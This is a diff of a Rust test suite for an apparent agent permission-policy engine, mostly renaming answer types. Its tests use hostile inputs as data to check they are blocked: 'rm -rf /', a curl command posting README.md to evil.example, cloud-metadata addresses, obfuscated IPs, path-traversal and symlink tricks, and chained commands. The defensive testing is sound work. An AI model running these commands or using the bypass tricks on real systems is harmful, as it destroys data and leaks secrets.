@@ -1,7 +1,7 @@
 //! Whatever is said lower down, nothing gets wider by it.
 
 use hermes_core::{Effect, ApprovalScope, Policy as _, Resource, Scope, Taint, Verdict};
-use hermes_policy::{Answer, Permissions};
+use hermes_policy::{PolicyAnswer, PermissionPolicy};
 use serde_json::json;
 
 use crate::World;
@@ -10,7 +10,7 @@ fn project(world: &World, yaml: &str) {
     world.put("ws/.hermes/hermes_permissions.yaml", yaml);
 }
 
-fn any(world: &World, p: &Permissions, scope: Scope) -> Answer {
+fn any(world: &World, p: &PermissionPolicy, scope: Scope) -> PolicyAnswer {
     world.examine(p, Effect::any(scope)).answer()
 }
 
@@ -20,18 +20,18 @@ fn only_the_profile_itself_can_let_dangerous_commands_through() {
     let allow = "{restrictions: {terminal:execute: {dangerous: allow}}}";
     for yaml in [format!("global: {allow}"), format!("profiles: {{default: {allow}}}")] {
         project(&world, &yaml);
-        assert_eq!(world.judged(&world.builtin("default"), "rm -rf src"), Answer::Ask, "{yaml}");
+        assert_eq!(world.judged(&world.builtin("default"), "rm -rf src"), PolicyAnswer::Ask, "{yaml}");
     }
     project(&world, "{}");
     let p = world.with(&format!("global: {allow}"), "default").unwrap();
-    assert_eq!(world.judged(&p, "rm -rf src"), Answer::Ask);
+    assert_eq!(world.judged(&p, "rm -rf src"), PolicyAnswer::Ask);
     let own = format!(
         "profiles: {{p: {{extends: default, {}}}}}",
         allow.trim_matches(['{', '}']).to_owned() + "}}"
     );
     let p = world.with(&own, "p").unwrap();
-    assert_eq!(world.judged(&p, "rm -rf src"), Answer::Allow);
-    assert_eq!(world.judged(&p, "rm -rf /"), Answer::Deny);
+    assert_eq!(world.judged(&p, "rm -rf src"), PolicyAnswer::Allow);
+    assert_eq!(world.judged(&p, "rm -rf /"), PolicyAnswer::Deny);
     // Each of the others can forbid it.
     let deny = "restrictions: {terminal:execute: {dangerous: deny}}";
     for yaml in [
@@ -42,7 +42,7 @@ fn only_the_profile_itself_can_let_dangerous_commands_through() {
         let world = World::new();
         Taint::record_source(&world.session, "web_extract", &[]).unwrap();
         let p = world.with(&yaml, "default").unwrap();
-        assert_eq!(world.judged(&p, "rm -rf src"), Answer::Deny, "{yaml}");
+        assert_eq!(world.judged(&p, "rm -rf src"), PolicyAnswer::Deny, "{yaml}");
     }
 }
 
@@ -56,7 +56,7 @@ fn the_sandbox_can_be_switched_on_and_tightened_from_below() {
     assert_eq!((held.limits.memory, held.limits.processes), (Some(1 << 20), Some(4096)));
     project(&world, "global: {sandbox: {enabled: false, missing: ask}}");
     let held = world.builtin("default").sandbox();
-    assert!(held.enabled && held.missing == Answer::Deny);
+    assert!(held.enabled && held.missing == PolicyAnswer::Deny);
 }
 
 #[test]
@@ -65,13 +65,13 @@ fn an_allowed_text_is_the_whole_command() {
     let yaml =
         "profiles: {p: {allow: [file:*, {scope: terminal:execute, commands: ['echo a | wc -c']}]}}";
     let p = world.with(yaml, "p").unwrap();
-    assert_eq!(world.judged(&p, "echo a | wc -c"), Answer::Allow);
+    assert_eq!(world.judged(&p, "echo a | wc -c"), PolicyAnswer::Allow);
     for more in ["echo a | wc -c; make", "make; echo a | wc -c", "echo a | wc -c | make"] {
-        assert_eq!(world.judged(&p, more), Answer::Deny, "{more}");
+        assert_eq!(world.judged(&p, more), PolicyAnswer::Deny, "{more}");
     }
     let yaml = "profiles: {p: {allow: ['*'], restrictions: {terminal:execute: {denied_commands: ['echo a | wc']}}}}";
     let p = world.with(yaml, "p").unwrap();
-    assert_eq!(world.judged(&p, "ls; echo a | wc -c"), Answer::Deny);
+    assert_eq!(world.judged(&p, "ls; echo a | wc -c"), PolicyAnswer::Deny);
 }
 
 #[test]
@@ -79,7 +79,7 @@ fn commands_that_run_nothing_are_judged_as_well() {
     let world = World::new();
     let p = world.builtin("readonly_research");
     for command in ["x=1", "# nothing", "", ":", "> out", "export A=1"] {
-        assert_eq!(world.judged(&p, command), Answer::Deny, "{command:?}");
+        assert_eq!(world.judged(&p, command), PolicyAnswer::Deny, "{command:?}");
     }
 }
 
@@ -87,9 +87,9 @@ fn commands_that_run_nothing_are_judged_as_well() {
 fn a_denied_root_is_not_everything_below_it() {
     let world = World::new();
     let p = world.builtin("full_developer");
-    assert_eq!(world.judged(&p, "rm -rf /"), Answer::Deny);
+    assert_eq!(world.judged(&p, "rm -rf /"), PolicyAnswer::Deny);
     for command in ["rm -rf /tmp/x", "rm -rf ./build", "rm -r /tmp/x"] {
-        assert_ne!(world.judged(&p, command), Answer::Deny, "{command}");
+        assert_ne!(world.judged(&p, command), PolicyAnswer::Deny, "{command}");
     }
 }
 
@@ -97,16 +97,16 @@ fn a_denied_root_is_not_everything_below_it() {
 fn targets_that_are_not_known_are_taken_for_the_worst() {
     let world = World::new();
     let p = world.builtin("default");
-    assert_eq!(any(&world, &p, Scope::FILE_WRITE), Answer::Ask);
-    assert_eq!(any(&world, &p, Scope::FILE_DELETE), Answer::Ask);
-    assert_eq!(any(&world, &p, Scope::FILE_READ), Answer::Allow);
-    assert_eq!(any(&world, &p, Scope::TERMINAL_EXECUTE), Answer::Ask);
+    assert_eq!(any(&world, &p, Scope::FILE_WRITE), PolicyAnswer::Ask);
+    assert_eq!(any(&world, &p, Scope::FILE_DELETE), PolicyAnswer::Ask);
+    assert_eq!(any(&world, &p, Scope::FILE_READ), PolicyAnswer::Allow);
+    assert_eq!(any(&world, &p, Scope::TERMINAL_EXECUTE), PolicyAnswer::Ask);
     let both = "profiles: {p: {allow: ['*'], deny: [{scope: file:write, paths: [x/**], commands: [make]}]}}";
     let p = world.with(both, "p").unwrap();
-    assert_eq!(any(&world, &p, Scope::FILE_WRITE), Answer::Deny);
+    assert_eq!(any(&world, &p, Scope::FILE_WRITE), PolicyAnswer::Deny);
     let only = "profiles: {p: {allow: [{scope: file:write, paths: ['${workspace}/**']}]}}";
     let p = world.with(only, "p").unwrap();
-    assert_eq!(any(&world, &p, Scope::FILE_WRITE), Answer::Deny);
+    assert_eq!(any(&world, &p, Scope::FILE_WRITE), PolicyAnswer::Deny);
     let ruling = p.judge(&world.proposal(&[Effect::any(Scope::FILE_WRITE)], &world.at()));
     assert!(matches!(ruling.verdict, Verdict::Deny { .. }));
 }
@@ -125,9 +125,9 @@ profiles:
 ";
     let p = world.with(yaml, "p").unwrap();
     let named = |name: &str| world.examine(&p, Effect::name(Scope::DATABASE_WRITE, name));
-    assert_eq!(named("PROD_users").answer(), Answer::Deny);
-    assert_eq!(named("prod_users").decisive().unwrap().reason, "Not in production");
-    assert_eq!(named("test_users").answer(), Answer::Allow);
+    assert_eq!(named("PROD_users").answer(), PolicyAnswer::Deny);
+    assert_eq!(named("prod_users").decisive_finding().unwrap().reason, "Not in production");
+    assert_eq!(named("test_users").answer(), PolicyAnswer::Allow);
     for host in [
         "evil.example",
         "EVIL.example.",
@@ -137,20 +137,20 @@ profiles:
         "167772167",
         "[::ffff:10.0.0.7]:80",
     ] {
-        assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, host), Answer::Deny, "{host}");
+        assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, host), PolicyAnswer::Deny, "{host}");
     }
-    assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, "good.example"), Answer::Allow);
+    assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, "good.example"), PolicyAnswer::Allow);
     for host in ["169.254.169.254:80", "[::ffff:169.254.169.254]:80", "x@169.254.169.254"] {
-        assert_eq!(world.reaches(&p, Scope::NETWORK_FETCH, host), Answer::Deny, "{host}");
+        assert_eq!(world.reaches(&p, Scope::NETWORK_FETCH, host), PolicyAnswer::Deny, "{host}");
     }
     // What is in a folder goes with it.
     world.put("ws/keep/a", "x");
     for path in ["ws/keep", "ws/keep/a", "ws"] {
-        assert_eq!(world.touches(&p, Scope::FILE_DELETE, world.path(path)), Answer::Deny, "{path}");
+        assert_eq!(world.touches(&p, Scope::FILE_DELETE, world.path(path)), PolicyAnswer::Deny, "{path}");
     }
-    assert_eq!(world.touches(&p, Scope::FILE_DELETE, world.path("ws/src")), Answer::Allow);
+    assert_eq!(world.touches(&p, Scope::FILE_DELETE, world.path("ws/src")), PolicyAnswer::Allow);
     world.put("home/.config/gh/hosts.yml", "x");
-    assert_eq!(world.touches(&p, Scope::FILE_DELETE, world.path("home/.config")), Answer::Deny);
+    assert_eq!(world.touches(&p, Scope::FILE_DELETE, world.path("home/.config")), PolicyAnswer::Deny);
 }
 
 #[test]
@@ -159,9 +159,9 @@ fn allowed_paths_are_real_paths() {
     let yaml = "profiles: {p: {allow: [{scope: file:write, paths: ['${workspace}/src/**']}]}}";
     let p = world.with(yaml, "p").unwrap();
     std::os::unix::fs::symlink(world.path("out"), world.path("ws/src/link")).unwrap();
-    assert_eq!(world.touches(&p, Scope::FILE_WRITE, world.path("ws/src/a")), Answer::Allow);
+    assert_eq!(world.touches(&p, Scope::FILE_WRITE, world.path("ws/src/a")), PolicyAnswer::Allow);
     for way in ["ws/src/link/a", "ws/src/../a", "ws/SRC/a", "ws/src./a"] {
-        assert_eq!(world.touches(&p, Scope::FILE_WRITE, world.path(way)), Answer::Deny, "{way}");
+        assert_eq!(world.touches(&p, Scope::FILE_WRITE, world.path(way)), PolicyAnswer::Deny, "{way}");
     }
 }
 
@@ -176,8 +176,8 @@ profiles:
       file:write: {allowed_paths: ['${workspace}/**'], allowed_commands: ['git *']}
 ";
     let p = world.with(yaml, "p").unwrap();
-    assert_eq!(world.judged(&p, "echo x > src/y"), Answer::Allow);
-    assert_eq!(world.judged(&p, "echo x > ../out/y"), Answer::Deny);
+    assert_eq!(world.judged(&p, "echo x > src/y"), PolicyAnswer::Allow);
+    assert_eq!(world.judged(&p, "echo x > ../out/y"), PolicyAnswer::Deny);
 }
 
 #[test]
@@ -195,14 +195,14 @@ profiles:
     for lasting in [ApprovalScope::Session, ApprovalScope::Always] {
         let a = world.with(yaml, "a").unwrap();
         a.remember_approval(&world.proposal(&effects, &at), lasting).unwrap();
-        assert_eq!(world.examine(&a, effects[0].clone()).answer(), Answer::Allow);
+        assert_eq!(world.examine(&a, effects[0].clone()).answer(), PolicyAnswer::Allow);
         let again = world.with(yaml, "a").unwrap();
-        assert_eq!(world.examine(&again, effects[0].clone()).answer(), Answer::Allow);
+        assert_eq!(world.examine(&again, effects[0].clone()).answer(), PolicyAnswer::Allow);
         let b = world.with(yaml, "b").unwrap();
-        assert_eq!(world.examine(&b, effects[0].clone()).answer(), Answer::Ask, "{lasting:?}");
+        assert_eq!(world.examine(&b, effects[0].clone()).answer(), PolicyAnswer::Ask, "{lasting:?}");
         let c = world.with(yaml, "c").unwrap();
         c.remember_approval(&world.proposal(&effects, &at), lasting).unwrap();
-        assert_eq!(world.examine(&c, effects[0].clone()).answer(), Answer::Deny, "{lasting:?}");
+        assert_eq!(world.examine(&c, effects[0].clone()).answer(), PolicyAnswer::Deny, "{lasting:?}");
     }
 }
 
@@ -214,18 +214,18 @@ fn parameters_are_held_to_their_numbers() {
         .unwrap();
     let at = world.at();
     for (value, answer) in [
-        (json!(5), Answer::Allow),
-        (json!("5"), Answer::Allow),
-        (json!(null), Answer::Allow),
-        (json!([1, 10]), Answer::Allow),
-        (json!(0), Answer::Deny),
-        (json!(10.5), Answer::Deny),
-        (json!("NaN"), Answer::Deny),
-        (json!("inf"), Answer::Deny),
-        (json!(" 11"), Answer::Deny),
-        (json!("many"), Answer::Deny),
-        (json!([1, 11]), Answer::Deny),
-        (json!({"a": 99}), Answer::Deny),
+        (json!(5), PolicyAnswer::Allow),
+        (json!("5"), PolicyAnswer::Allow),
+        (json!(null), PolicyAnswer::Allow),
+        (json!([1, 10]), PolicyAnswer::Allow),
+        (json!(0), PolicyAnswer::Deny),
+        (json!(10.5), PolicyAnswer::Deny),
+        (json!("NaN"), PolicyAnswer::Deny),
+        (json!("inf"), PolicyAnswer::Deny),
+        (json!(" 11"), PolicyAnswer::Deny),
+        (json!("many"), PolicyAnswer::Deny),
+        (json!([1, 11]), PolicyAnswer::Deny),
+        (json!({"a": 99}), PolicyAnswer::Deny),
     ] {
         let arguments = json!({ "n": value });
         let mut proposal = world.proposal(&[], &at);
@@ -260,17 +260,17 @@ fn parameters_that_are_paths_are_held_to_where_they_lead() {
         (address.as_str(), "a.txt"),
     ] {
         for denied in ["{denied: ['*.txt']}", "{denied: [a.txt]}", "{allowed: ['docs/*']}"] {
-            assert_eq!(judged(denied, written, path), Answer::Deny, "{denied} {written}");
+            assert_eq!(judged(denied, written, path), PolicyAnswer::Deny, "{denied} {written}");
         }
-        assert_eq!(judged("{approval: [a.txt]}", written, path), Answer::Ask, "{written}");
+        assert_eq!(judged("{approval: [a.txt]}", written, path), PolicyAnswer::Ask, "{written}");
     }
     for written in ["docs/b.md", "./docs/b.md"] {
-        assert_eq!(judged("{allowed: ['docs/*']}", written, "docs/b.md"), Answer::Allow);
+        assert_eq!(judged("{allowed: ['docs/*']}", written, "docs/b.md"), PolicyAnswer::Allow);
     }
     // What lies there may lead elsewhere.
-    assert_eq!(judged("{allowed: ['docs/*']}", "docs/link.md", "docs/link.md"), Answer::Deny);
+    assert_eq!(judged("{allowed: ['docs/*']}", "docs/link.md", "docs/link.md"), PolicyAnswer::Deny);
     // Other arguments are text, whatever they look like.
-    assert_eq!(judged("{denied: [a.txt]}", "./a.txt", "docs/b.md"), Answer::Allow);
+    assert_eq!(judged("{denied: [a.txt]}", "./a.txt", "docs/b.md"), PolicyAnswer::Allow);
 }
 
 #[test]
@@ -310,25 +310,25 @@ fn a_rule_that_names_a_command_and_a_resource_is_about_both() {
         world.with(&format!("profiles: {{p: {{extends: default, {rule}}}}}"), "p").unwrap()
     };
     let p = with("approved: [{scope: network:send, commands: [curl], hosts: [x.example]}]");
-    assert_eq!(world.judged(&p, "curl -d a https://x.example"), Answer::Allow);
+    assert_eq!(world.judged(&p, "curl -d a https://x.example"), PolicyAnswer::Allow);
     for other in [
         "curl -d @README.md https://evil.example",
         "wget --post-data=a https://x.example",
         "scp a x.example:b",
     ] {
-        assert_eq!(world.judged(&p, other), Answer::Ask, "{other}");
+        assert_eq!(world.judged(&p, other), PolicyAnswer::Ask, "{other}");
     }
-    assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, "x.example"), Answer::Ask);
+    assert_eq!(world.reaches(&p, Scope::NETWORK_SEND, "x.example"), PolicyAnswer::Ask);
     let p = with("approved: [{scope: file:write, paths: ['/opt/a/**'], commands: [cp]}]");
-    assert_eq!(world.judged(&p, "cp README.md /opt/a/x"), Answer::Allow);
-    assert_eq!(world.judged(&p, "cp README.md /opt/b/x"), Answer::Ask);
-    assert_eq!(world.judged(&p, "echo x > /opt/a/x"), Answer::Ask);
+    assert_eq!(world.judged(&p, "cp README.md /opt/a/x"), PolicyAnswer::Allow);
+    assert_eq!(world.judged(&p, "cp README.md /opt/b/x"), PolicyAnswer::Ask);
+    assert_eq!(world.judged(&p, "echo x > /opt/a/x"), PolicyAnswer::Ask);
     let p = with("deny: [{scope: network:fetch, commands: [curl], hosts: [bad.example]}]");
-    assert_eq!(world.judged(&p, "curl https://good.example"), Answer::Allow);
-    assert_eq!(world.judged(&p, "curl https://bad.example"), Answer::Deny);
+    assert_eq!(world.judged(&p, "curl https://good.example"), PolicyAnswer::Allow);
+    assert_eq!(world.judged(&p, "curl https://bad.example"), PolicyAnswer::Deny);
     // Of one kind, any will do.
     let p = with("deny: [{scope: network:fetch, hosts: [bad.example, evil.example]}]");
-    assert_eq!(world.judged(&p, "curl https://evil.example"), Answer::Deny);
+    assert_eq!(world.judged(&p, "curl https://evil.example"), PolicyAnswer::Deny);
 }
 
 #[test]
@@ -338,11 +338,11 @@ fn an_exact_command_is_no_part_of_another() {
     let yaml = "profiles: {p: {extends: default, \
                 approved: [{scope: terminal:execute, commands: ['= rm -rf k']}]}}";
     let p = world.with(yaml, "p").unwrap();
-    assert_eq!(world.judged(&p, "rm -rf k"), Answer::Allow);
+    assert_eq!(world.judged(&p, "rm -rf k"), PolicyAnswer::Allow);
     for part in
         ["cd src && rm -rf k", "(cd src; rm -rf k)", "D=src; cd $D && rm -rf k", "ls; rm -rf k"]
     {
-        assert_eq!(world.judged(&p, part), Answer::Ask, "{part}");
+        assert_eq!(world.judged(&p, part), PolicyAnswer::Ask, "{part}");
     }
 }
 
@@ -356,7 +356,7 @@ fn what_a_project_says_in_vain_is_named() {
          elsewhere: allow}}}, full_developer: {allow: ['file:*'], restrictions: \
          {terminal:execute: {dangerous: deny}}}}",
     );
-    let idle = world.sources("").unwrap().idle();
+    let idle = world.sources("").unwrap().ineffective_rules();
     for part in ["allow: [\"*\"]", "dangerous: allow", "private_hosts: allow", "elsewhere: allow"] {
         let is_named = |line: &String| line.contains(&format!(": {part} of profile default"));
         assert!(idle.iter().any(is_named), "{part}: {idle:?}");
